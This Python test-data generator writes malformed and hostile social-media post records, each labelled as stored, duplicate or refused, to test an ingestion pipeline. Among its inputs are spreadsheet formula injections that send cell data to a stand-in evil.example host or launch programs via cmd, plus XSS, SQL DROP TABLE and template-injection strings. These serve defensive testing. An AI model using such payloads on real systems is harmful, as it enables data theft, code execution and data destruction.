"""A seeded generator of records as an enemy or a bad tool would write them, each with what must become of it."""

from __future__ import annotations

import json
import random
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from enum import StrEnum
from pathlib import Path


class Fate(StrEnum):
    """What must become of a record."""

    STORED = "stored"
    KNOWN = "known"
    REFUSED = "refused"


Line = tuple[bytes, Fate]
_WORDS = [
    "calm", "skin", "red", "cheeks", "cleanser", "sunscreen", "serum", "barrier", "winter", "cheap", "gentle", "sting",
    "glow", "patch", "week", "month", "routine", "morning", "night", "clay", "acid", "retinol", "budget", "holiday",
    "кожа", "утро", "крем", "зима", "süß", "crème", "防晒霜", "🔥",
]  # fmt: skip
HUGE_EVERY = 5_000
LONG_EVERY = 300
"""So rare are captions of ten megabytes and of a hundred thousand letters: more of them would measure the disk."""
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1|cmd",
    '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
    "-2+3+cmd|' /C notepad'!A0",
)


@dataclass
class Hostility:
    """Makes records from one seed; the same seed makes the same records."""

    at: datetime
    seed: int = 7
    _good: list[int] = field(default_factory=list)
    _number: int = 0

    def __post_init__(self) -> None:
        self._dice = random.Random(self.seed)

    def lines(self, count: int) -> Iterator[Line]:
        """Yield records as JSON lines; four in ten are as they should be."""
        for place in range(count):
            self._number = place
            if place % HUGE_EVERY == HUGE_EVERY // 2:
                yield self._record(text="x" * 10_000_000), Fate.REFUSED
            elif place % LONG_EVERY == LONG_EVERY // 2:
                yield self._dice.choice([self._long_caption, self._bottomless])()
            elif place < 40 or self._dice.random() < 0.4:
                yield self._sound()
            else:
                yield self._dice.choice(_KINDS)(self)

    def _sound(self) -> Line:
        self._good.append(self._number)
        return self._record(), Fate.STORED

    def _text(self) -> str:
        return " ".join(self._dice.choices(_WORDS, k=self._dice.randint(4, 30)))

    def _fields(self, **changes: object) -> dict[str, object]:
        return {
            "platform": "instagram",
            "platform_item_id": f"p{self._number}",
            "url": f"https://example.com/{self._number}",
            "author": f"person{self._dice.randrange(500)}",
            "text": self._text(),
            "published_at": (self.at - timedelta(minutes=self._number % 40_000)).isoformat(),
            "likes": self._dice.randrange(5000),
        } | changes

    def _record(self, **changes: object) -> bytes:
        # Half a character has no UTF-8, and is written as an escape like the rest of its record.
        whole = json.dumps(self._fields(**changes), ensure_ascii=False)
        return whole.encode() if _is_whole(whole) else json.dumps(self._fields(**changes)).encode()

    # What is refused.

    def _truncated(self) -> Line:
        whole = self._record()
        return whole[: self._dice.randrange(1, len(whole) - 1)], Fate.REFUSED

    def _no_object(self) -> Line:
        return self._dice.choice(
            [b"12", b'"text"', b"null", b"[1, 2]", b"true", b"NaN", b"{}", b"}{", b"\\"]
        ), Fate.REFUSED

    def _wrong_type(self) -> Line:
        changes: list[dict[str, object]] = [
            {"text": {"nested": True}},
            {"text": ["a", "list"]},
            {"platform": None},
            {"platform": "insta\u0007gram"},
            {"platform": "x" * 60},
            {"platform_item_id": True},
            {"platform_item_id": None},
            {"platform_item_id": 1e300},
            {"platform_item_id": "x" * 400},
            {"platform_item_id": "1.23457E+17"},
            {"likes": "many"},
            {"likes": [1]},
            {"likes": 1.5},
            {"text": "", "title": None},
        ]
        return self._record(**self._dice.choice(changes)), Fate.REFUSED

    def _bad_date(self) -> Line:
        dates: list[object] = [
            "9999-12-31T23:59:59Z", "0001-01-01", "1950-05-05", "next Tuesday", "03/04/2026", 10**40, -5, 9e18, True,
            "2026-02-30", "2026-13-01T00:00:00Z", "x" * 100, float("inf"), ["2026-01-01"],
        ]  # fmt: skip
        return self._record(published_at=self._dice.choice(dates)), Fate.REFUSED

    def _bad_count(self) -> Line:
        return self._record(likes=self._dice.choice([-1, -(10**30), 10**30, 1e308, "-5", "1.234,5"])), Fate.REFUSED

    def _endless_number(self) -> Line:
        return self._record().replace(b'"likes": ', b'"likes": ' + b"9" * 5_000), Fate.REFUSED

    def _deep(self) -> Line:
        return self._nested(self._dice.choice([70, 500, 5_000]))

    def _bottomless(self) -> Line:
        return self._nested(100_000)

    def _nested(self, depth: int) -> Line:
        return self._record()[:-1] + b', "extra": ' + b"[" * depth + b"]" * depth + b"}", Fate.REFUSED

    def _other_encoding(self) -> Line:
        return self._record(text="caf").replace(b'"caf"', b'"caf\xe9 \xfcber \x93quoted\x94"'), Fate.REFUSED

    def _raw_control(self) -> Line:
        return self._record(text="cut").replace(b"cut", b"cu\x00\x01t"), Fate.REFUSED

    def _long_caption(self) -> Line:
        return self._record(text="word " * 25_000), Fate.REFUSED

    # What is taken, made harmless.

    def _unstorable_characters(self) -> Line:
        text = self._dice.choice(["nul\u0000here", "\ud800 half", "pair \udc00\ud800", "\u202eesrever", "\u200b\u2060"])
        return self._record(text=f"{text} {self._text()}"), Fate.STORED

    def _formula(self) -> Line:
        return self._record(text=self._dice.choice(FORMULAS), author=FORMULAS[0]), Fate.STORED

    def _markup(self) -> Line:
        texts = [
            "<script>alert(1)</script>",
            "'; DROP TABLE evidence_item; --",
            "{{7*7}}",
            "%s %(x)s {0}",
            "\\x00\\u0000",
        ]
        return self._record(text=self._dice.choice(texts), url="javascript:alert(1)"), Fate.STORED

    def _odd_extras(self) -> Line:
        changes: list[dict[str, object]] = [
            {"hashtags": [1, None, {"name": []}, "#" * 80]},
            {"language": "x-klingon" * 20},
            {"media_type": 7},
            {"author": "a" * 10_000},
            {"url": "http://[bad"},
            {"extra": ["y" * 100] * 700},
            {"\u0000key\ud800": "value"},
            {"published_at": None},
            {"likes": float("nan")},
            {"likes": "1.2K"},
            {"transcript": [{"text": "spoken"}, {"no": "text"}, 5]},
        ]
        return self._record(**self._dice.choice(changes)), Fate.STORED

    def _repeated(self) -> Line:
        return self._record(platform_item_id=f"p{self._dice.choice(self._good)}"), Fate.KNOWN


_KINDS: list[Callable[[Hostility], Line]] = [
    getattr(Hostility, name)
    for name in (
        "_truncated", "_no_object", "_wrong_type", "_bad_date", "_bad_count", "_endless_number", "_deep",
        "_other_encoding", "_raw_control", "_unstorable_characters", "_formula", "_markup",
        "_odd_extras", "_repeated",
    )
]  # fmt: skip


def _is_whole(text: str) -> bool:
    return not any("\ud800" <= letter <= "\udfff" for letter in text)


def write_hostile_lines(path: Path, count: int, *, at: datetime) -> Counter[Fate]:
    """Write records as JSON lines and return how many must meet which fate."""
    fates: Counter[Fate] = Counter()
    with path.open("wb") as file:
        for line, fate in Hostility(at).lines(count):
            file.write(line + b"\n")
            fates[fate] += 1
    return fates
